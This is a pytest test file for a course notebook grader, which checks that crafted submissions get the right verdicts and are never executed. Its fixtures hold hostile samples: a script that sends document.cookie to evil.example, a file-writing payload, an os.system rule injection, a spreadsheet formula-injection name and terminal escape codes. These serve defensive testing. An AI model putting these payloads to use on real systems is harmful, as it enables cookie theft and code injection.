"""Grading executed notebooks without running them: crafted good, bad and hostile submissions."""

from __future__ import annotations

import argparse
import copy
import csv
import json
import os
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from genai_course import grading
from genai_course.grading import Rubric, RuleError, check_rule, grade_notebook, grade_paths, lookup, parse_rule
from genai_course.results import RESULTS_MIME, results_payload

REPO = Path(__file__).resolve().parents[1]


# ----------------------------------------------------------------------------- crafted submissions


def _rouge(r1: float) -> dict:
    return {"rouge1": r1, "rouge2": r1 / 2, "rougeL": r1 * 0.8, "rougeLsum": r1 * 0.8}


def lab2_results(lora_rouge1: float = 0.52) -> dict:
    """Numbers shaped like the tiny world's Lab 2 (the shared result keys), passing the tiny rubric."""
    return {
        "n_eval": 120,
        "rouge": {"original": _rouge(0.25), "full": _rouge(0.55), "lora": _rouge(lora_rouge1)},
        "params": {
            "full": {"trainable": 1_500_000, "total": 1_500_000, "percent": 100.0},
            "lora": {"trainable": 45_000, "total": 1_545_000, "percent": 2.9},
        },
        "cost": {
            "full": {"seconds": 60.0, "peak_memory_mb": 900.0, "saved_mb": 6.0},
            "lora": {"seconds": 55.0, "peak_memory_mb": 700.0, "saved_mb": 0.2},
        },
        "forgetting": {"task": "topic", "metric": "accuracy", "original": 0.8, "full": 0.5, "lora": 0.75},
    }


def record_output(lab: str, results: dict, profile: str = "tiny"):
    """The display_data output that record_results produces in a kernel."""
    payload = results_payload(lab, results, profile=profile)
    text = json.dumps(payload, indent=2, sort_keys=True)
    return new_output("display_data", data={"text/plain": text, RESULTS_MIME: payload})


def _nbgrader(grade_id: str, *, solution: bool) -> dict:
    meta = {"grade": not solution, "solution": solution, "locked": not solution, "grade_id": grade_id, "schema_version": 3}
    if not solution:
        meta["points"] = 1
    return {"nbgrader": meta}


def make_notebook(lab: str = "lab2", results: dict | None = None, *, profile: str = "tiny"):
    """An executed, answered, in-order notebook of ``lab`` with two exercises and a results record."""
    results = lab2_results() if results is None else results
    cells = [
        new_markdown_cell(f"# {lab}"),
        new_code_cell("from genai_course import get_profile", execution_count=1),
        new_code_cell(
            "def trainable_share(trainable, total):\n    ### BEGIN SOLUTION\n    return 100 * trainable / total\n    ### END SOLUTION",
            execution_count=2, metadata=_nbgrader(f"{lab}-ex1-answer", solution=True),
        ),
        new_code_cell("assert trainable_share(1, 4) == 25", execution_count=3, metadata=_nbgrader(f"{lab}-ex1-test", solution=False)),
        new_code_cell(
            "TARGETS = None\n### BEGIN SOLUTION\nTARGETS = ['q', 'v']\n### END SOLUTION",
            execution_count=4, metadata=_nbgrader(f"{lab}-ex2-answer", solution=True),
        ),
        new_code_cell("assert TARGETS == ['q', 'v']", execution_count=5, metadata=_nbgrader(f"{lab}-ex2-test", solution=False)),
        new_code_cell(f"record_results({lab!r}, results, profile=profile.name)", execution_count=6,
                      outputs=[record_output(lab, results, profile)]),
    ]
    return new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "language": "python", "display_name": "Python 3"}})


def write(notebook, path: Path) -> Path:
    nbformat.write(notebook, path)
    return path


@pytest.fixture(scope="module")
def rubric() -> Rubric:
    return Rubric.load(REPO / "labs" / "lab2_finetuning" / "rubric.toml")


def _error_output(ename: str = "ValueError", evalue: str = "boom"):
    return new_output("error", ename=ename, evalue=evalue, traceback=[f"{ename}: {evalue}"])


def crafted_cases(folder: Path, canary: Path) -> dict[str, tuple[Path, str, str]]:
    """name -> (file, expected verdict, a phrase the reasons/flags must contain)."""
    cases: dict[str, tuple[Path, str, str]] = {}

    def add(name: str, notebook, verdict: str, phrase: str) -> None:
        cases[name] = (write(notebook, folder / f"{name}.ipynb"), verdict, phrase)

    add("passing", make_notebook(), "pass", "")
    add("failing_thresholds", make_notebook(results=lab2_results(lora_rouge1=0.30)), "fail", "LoRA comes close")

    errored = make_notebook()
    errored.cells[1].outputs = [_error_output("ModuleNotFoundError", "No module named 'genai_course'")]
    add("errored_cell", errored, "fail", "raised ModuleNotFoundError")

    out_of_order = make_notebook()
    out_of_order.cells[4].execution_count = 9
    add("out_of_order", out_of_order, "fail", "out of order")

    add("wrong_lab", make_notebook(lab="lab1", results={"n_eval": 120}), "fail", "wrong lab")

    tampered = make_notebook()
    tampered.cells[-1].outputs[0].data[RESULTS_MIME]["results"]["rouge"]["lora"]["rouge1"] = 0.99
    add("tampered_results", tampered, "fail", "tampered")

    no_results = make_notebook()
    no_results.cells[-1].outputs = []
    add("no_results", no_results, "fail", "no recorded results")

    unanswered = make_notebook()
    unanswered.cells[2].source = "def trainable_share(trainable, total):\n    # YOUR CODE HERE\n    raise NotImplementedError()"
    unanswered.cells[3].outputs = [_error_output("NameError", "name 'trainable_share' is not defined")]
    add("unanswered", unanswered, "fail", "not answered")

    scripted = make_notebook()
    scripted.cells[1].outputs = [
        new_output("display_data", data={"text/html": "<script>fetch('https://evil.example/'+document.cookie)</script>", "text/plain": "x"}),
        new_output("display_data", data={"application/javascript": "alert(1)"}),
    ]
    add("html_script", scripted, "pass", "<script>")

    writer = make_notebook()
    payload = f"open({str(canary)!r}, 'w').write('executed!')"
    writer.cells[1].source = payload
    writer.cells[2].source = payload + "\n### BEGIN SOLUTION\ndef trainable_share(t, n):\n    return 100 * t / n\n### END SOLUTION"
    add("writes_a_file", writer, "pass", "")

    (folder / "malformed_json.ipynb").write_text('{"cells": [ {"cell_type": "code", ', encoding="utf-8")
    cases["malformed_json"] = (folder / "malformed_json.ipynb", "error", "not valid JSON")
    (folder / "not_a_notebook.ipynb").write_text(json.dumps({"hello": "world", "cells": "no"}), encoding="utf-8")
    cases["not_a_notebook"] = (folder / "not_a_notebook.ipynb", "error", "not a Jupyter notebook")
    (folder / "json_list.ipynb").write_text("[1, 2, 3]", encoding="utf-8")
    cases["json_list"] = (folder / "json_list.ipynb", "error", "not a Jupyter notebook")
    bad_schema = json.loads(nbformat.writes(make_notebook()))
    bad_schema["cells"][1]["cell_type"] = "rocket"
    (folder / "invalid_schema.ipynb").write_text(json.dumps(bad_schema), encoding="utf-8")
    cases["invalid_schema"] = (folder / "invalid_schema.ipynb", "error", "not a valid notebook")
    (folder / "binary.ipynb").write_bytes(b"\x89PNG\r\n\x1a\n\x00\xff\xfe")
    cases["binary"] = (folder / "binary.ipynb", "error", "not UTF-8")
    (folder / "deep_nesting.ipynb").write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    cases["deep_nesting"] = (folder / "deep_nesting.ipynb", "error", "JSON")
    with open(folder / "oversized.ipynb", "wb") as handle:  # sparse: 21 MB on paper, never read
        handle.truncate(21_000_000)
    cases["oversized"] = (folder / "oversized.ipynb", "error", "over the 20 MB limit")
    return cases


@pytest.fixture(scope="module")
def graded(tmp_path_factory, rubric):
    folder = tmp_path_factory.mktemp("submissions")
    canary = tmp_path_factory.mktemp("canary") / "pwned.txt"
    cases = crafted_cases(folder, canary)
    reports = {name: grade_notebook(path, rubric) for name, (path, _, _) in cases.items()}
    return cases, reports, canary, folder


# ----------------------------------------------------------------------------- verdicts


CASE_NAMES = [
    "passing", "failing_thresholds", "errored_cell", "out_of_order", "wrong_lab", "tampered_results", "no_results",
    "unanswered", "html_script", "writes_a_file", "malformed_json", "not_a_notebook", "json_list", "invalid_schema",
    "binary", "deep_nesting", "oversized",
]


@pytest.mark.parametrize("name", CASE_NAMES)
def test_crafted_case_gets_the_right_verdict(graded, name):
    cases, reports, _, _ = graded
    _, expected, phrase = cases[name]
    report = reports[name]
    assert report.verdict == expected, f"{name}: expected {expected}, got {report.verdict}: {report.reasons}"
    assert phrase in " ".join(report.reasons + report.flags), f"{name}: {phrase!r} not in {report.reasons + report.flags}"


def test_passing_notebook_meets_every_threshold_and_exercise(graded, rubric):
    report = graded[1]["passing"]
    assert report.reasons == [] and report.flags == []
    assert report.profile == "tiny"
    assert (report.rules_passed, report.rules_total) == (len(rubric.profiles["tiny"]), len(rubric.profiles["tiny"]))
    assert (report.exercises_answered, report.exercises_total, report.tests_passed, report.points) == (2, 2, 2, 2.0)


def test_threshold_failure_reports_what_was_measured(graded):
    reasons = " ".join(graded[1]["failing_thresholds"].reasons)
    assert "rouge.lora.rouge1 = 0.3" in reasons and ">= 0.5" in reasons


def test_tampering_names_the_forged_key(graded):
    assert "rouge.lora.rouge1" in " ".join(graded[1]["tampered_results"].reasons)


def test_script_outputs_are_flagged_not_rendered(graded):
    flags = graded[1]["html_script"].flags
    assert any("text/html" in f for f in flags) and any("application/javascript" in f for f in flags)


def test_grading_never_executes_submitted_code(graded):
    _, reports, canary, _ = graded
    assert reports["writes_a_file"].verdict == "pass"
    assert not canary.exists(), "grading ran the submitted code: the file it writes appeared"


def test_failed_exercise_test_is_reported_by_grade_id(rubric, tmp_path):
    notebook = make_notebook()
    notebook.cells[5].outputs = [_error_output("AssertionError", "")]
    report = grade_notebook(write(notebook, tmp_path / "a.ipynb"), rubric)
    assert report.verdict == "fail" and report.tests_passed == 1
    assert any("test lab2-ex2-test failed: AssertionError" in r for r in report.reasons)


def test_unrun_cells_and_forged_records_fail(rubric, tmp_path):
    notebook = make_notebook()
    notebook.cells[-1].execution_count = None  # outputs pasted in, never produced by a run
    report = grade_notebook(write(notebook, tmp_path / "a.ipynb"), rubric)
    assert report.verdict == "fail"
    assert any("never ran" in r for r in report.reasons) and any("not run" in r for r in report.reasons)


def test_deleted_exercises_are_noticed(rubric, tmp_path):
    notebook = make_notebook()
    del notebook.cells[2:6]
    report = grade_notebook(write(notebook, tmp_path / "a.ipynb"), rubric)
    assert report.verdict == "fail" and any("were cells deleted" in r for r in report.reasons)


def test_profile_is_checked(rubric, tmp_path):
    path = write(make_notebook(), tmp_path / "a.ipynb")
    assert grade_notebook(path, rubric, profile="full").verdict == "fail"
    unknown = grade_notebook(write(make_notebook(profile="huge"), tmp_path / "b.ipynb"), rubric)
    assert unknown.verdict == "fail" and any("no thresholds for profile 'huge'" in r for r in unknown.reasons)


def test_missing_file_and_folder_are_errors_not_crashes(rubric, tmp_path):
    assert grade_notebook(tmp_path / "nope.ipynb", rubric).verdict == "error"
    (tmp_path / "dir.ipynb").mkdir()
    assert grade_notebook(tmp_path / "dir.ipynb", rubric).reasons == ["not a regular file"]
    (tmp_path / "endless.ipynb").symlink_to("/dev/zero")  # reading it would never end
    assert grade_notebook(tmp_path / "endless.ipynb", rubric).reasons == ["not a regular file"]
    os.mkfifo(tmp_path / "fifo.ipynb")  # opening it would block
    assert grade_notebook(tmp_path / "fifo.ipynb", rubric).reasons == ["not a regular file"]


# ----------------------------------------------------------------------------- batch, table, CSV, CLI


def _cli(argv: list[str]) -> int:
    parser = argparse.ArgumentParser()
    grading.register(parser.add_subparsers())
    args = parser.parse_args(argv)
    return args.func(args)


def test_cli_grades_a_folder_prints_a_table_and_writes_csv(graded, tmp_path, capsys):
    cases, _, canary, folder = graded
    out_csv = tmp_path / "grades.csv"
    assert _cli(["grade", "lab2_finetuning", str(folder), "--csv", str(out_csv)]) == 0
    printed = capsys.readouterr().out
    assert "student" in printed and "verdict" in printed and "Details:" in printed
    rows = {row["student"]: row for row in csv.DictReader(out_csv.open(encoding="utf-8"))}
    assert set(rows) == set(cases)
    for name, (_, expected, _) in cases.items():
        assert rows[name]["verdict"] == expected, name
    assert rows["passing"]["points"] == "2" and rows["passing"]["rubric_passed"] == rows["passing"]["rubric_total"]
    assert "3 pass" in printed and f"{sum(v == 'error' for _, v, _ in cases.values())} error" in printed
    assert not canary.exists()


def test_cli_usage_errors_exit_2(tmp_path, capsys):
    assert _cli(["grade", "lab9", str(tmp_path)]) == 2
    assert "Unknown lab 'lab9'" in capsys.readouterr().err
    assert _cli(["grade", "lab2", str(tmp_path)]) == 2  # empty folder
    assert "no .ipynb files" in capsys.readouterr().err
    assert _cli(["grade", "lab2", str(tmp_path), "--rubric", str(tmp_path / "none.toml")]) == 2


def test_size_limit_is_configurable(rubric, tmp_path):
    path = write(make_notebook(), tmp_path / "a.ipynb")
    report = grade_notebook(path, rubric, max_megabytes=0.001)
    assert report.verdict == "error" and "over the 0.001 MB limit" in report.reasons[0]


def test_nbgrader_folder_layout_names_students_and_csv_is_injection_safe(rubric, tmp_path):
    for student in ("alice", "=HYPERLINK(evil)"):
        (tmp_path / student / "lab2").mkdir(parents=True)
        write(make_notebook(), tmp_path / student / "lab2" / "lab2_finetuning.ipynb")
    reports = grade_paths("lab2", [tmp_path], rubric, progress=False)
    assert sorted(r.student for r in reports) == ["=HYPERLINK(evil)", "alice"]
    grading.write_csv(reports, tmp_path / "g.csv")
    text = (tmp_path / "g.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(evil)" in text and "\n=HYPERLINK" not in text


def test_control_characters_in_submissions_are_not_printed(rubric, tmp_path):
    notebook = make_notebook()
    notebook.cells[1].outputs = [_error_output("Evil\x1b[2J", "clear\x1b]0;title\x07")]
    report = grade_notebook(write(notebook, tmp_path / "a.ipynb"), rubric)
    assert "\x1b" not in grading.format_table([report]) and "\x07" not in " ".join(report.reasons)


# ----------------------------------------------------------------------------- the rule language


RESULTS = {"a": {"x": 0.5, "y": 0.25}, "b": {"x": 0.1}, "flag": True, "curve": [{"k": 1}, {"k": 4}], "n": 3}


@pytest.mark.parametrize(
    "rule, holds",
    [
        ("a.x - b.x >= 0.4", True),
        ("a.x - b.x >= 0.41", False),
        ("a.y >= a.x - 0.3", True),
        ("a.x + a.y == 0.75", True),
        ("-a.x < 0", True),
        ("max(a.x, b.x) - min(a.x, b.x) >= 0.4", True),
        ("max(a.*) == 0.5", True),
        ("max(curve.*.k) == 4", True),
        ("curve.1.k > curve.0.k", True),
        ("len(curve) >= 3", False),
        ("abs(b.x - a.x) <= 0.4", True),
        ("flag == true", True),
        ("flag != true", False),
        ("n >= 1e1", False),
        ("(a.x - b.x) * 1 >= 0", None),  # '*' is not an operator: a parse error
    ],
)
def test_rules(rule, holds):
    if holds is None:
        with pytest.raises(RuleError):
            check_rule(parse_rule(rule), RESULTS)
        return
    assert check_rule(parse_rule(rule), RESULTS)[0] is holds


@pytest.mark.parametrize(
    "rule, message",
    [
        ("a.z >= 1", "missing result 'a.z'"),
        ("flag + 1 >= 1", "not a number"),
        ("flag >= 1", "use == or !="),
        ("n.* >= 1", "not a table or list"),
        ("a.* >= 1", "needs max(), min() or len()"),
        ("max(*.x) >= 1", "missing result 'flag.x'"),
    ],
)
def test_rule_evaluation_errors_are_clear(rule, message):
    with pytest.raises(RuleError, match=message.replace("(", r"\(").replace(")", r"\)").replace("*", r"\*")):
        check_rule(parse_rule(rule), RESULTS)


@pytest.mark.parametrize(
    "rule",
    ["__import__('os').system('touch x') == 0", "a.x >= 1; b", "a.x", "a.x >= ", "open(a) == 1", "a.x >= 1 >= 0", ""],
)
def test_anything_but_the_rule_language_is_refused(rule):
    with pytest.raises(RuleError):
        parse_rule(rule)


def test_lookup_walks_lists_and_wildcards():
    assert lookup(RESULTS, "curve.1.k") == 4
    assert sorted(lookup(RESULTS, "a.*")) == [0.25, 0.5]
    assert sorted(lookup({"p": {"x": 2}, "q": {"x": 1}}, "*.x")) == [1, 2]


def test_every_lab_rubric_parses_and_requires_the_shared_result_keys():
    expected = {"lab1": "overflow_detected", "lab2": "params.lora.percent", "lab3": "toxicity.ci_high"}
    for lab, key in expected.items():
        rubric = Rubric.load(grading.find_rubric(lab))
        assert rubric.lab == lab and set(rubric.profiles) == {"tiny", "full"}
        assert rubric.min_exercises >= 2
        assert key in rubric.required or any(key in rule.text for rule in rubric.profiles["tiny"])


def test_tiny_thresholds_from_the_issues():
    def rules(lab):
        return {r.text for r in Rubric.load(grading.find_rubric(lab)).profiles["tiny"]}

    assert "max(rouge.*.rouge1) - min(rouge.*.rouge1) >= 0.05" in rules("lab1")
    assert "overflow_detected == true" in rules("lab1")
    assert {"rouge.full.rouge1 - rouge.original.rouge1 >= 0.15", "rouge.lora.rouge1 >= rouge.full.rouge1 - 0.05",
            "params.lora.percent <= 5"} <= rules("lab2")
    assert {"toxicity.relative_change <= -0.5", "toxicity.ci_high < 0", "rougeL.before - rougeL.after <= 0.03"} <= rules("lab3")


def test_malformed_rubrics_are_rejected_with_the_reason(tmp_path):
    bad = tmp_path / "rubric.toml"
    bad.write_text('lab = "lab2"\n[[profiles.tiny.rules]]\nname = "x"\nrule = "a.x >>= 1"\n', encoding="utf-8")
    with pytest.raises(grading.RubricError, match="profile tiny"):
        Rubric.load(bad)
    bad.write_text('lab = "lab7"\n', encoding="utf-8")
    with pytest.raises(grading.RubricError, match="Unknown lab"):
        Rubric.load(bad)
    bad.write_text("lab = [", encoding="utf-8")
    with pytest.raises(grading.RubricError, match="not valid TOML"):
        Rubric.load(bad)


def test_a_record_with_lab1_keys_passes_the_lab1_rubric(tmp_path):
    """The lab1 rubric against a record shaped exactly like the shared API (wildcards over strategies)."""
    results = {
        "n_eval": 120, "context_window": 512,
        "rouge": {"no_prompt": _rouge(0.1), "instruction": _rouge(0.25), "flan": _rouge(0.5),
                  "one_shot": _rouge(0.45), "few_shot": _rouge(0.44)},
        "shots_curve": [{"shots": k, "rouge1": 0.4, "rougeL": 0.3, "prompt_tokens_max": 200 * k, "fits": k < 3}
                        for k in range(5)],
        "overflow_detected": True,
    }
    notebook = make_notebook(lab="lab1", results=results)
    report = grade_notebook(write(notebook, tmp_path / "l1.ipynb"), Rubric.load(grading.find_rubric("lab1")))
    assert report.verdict == "pass", report.reasons
    flat = copy.deepcopy(results)
    for strategy in flat["rouge"].values():
        strategy["rouge1"] = 0.3
    notebook = make_notebook(lab="lab1", results=flat)
    report = grade_notebook(write(notebook, tmp_path / "l1b.ipynb"), Rubric.load(grading.find_rubric("lab1")))
    assert report.verdict == "fail" and any("strategies differ" in r for r in report.reasons)
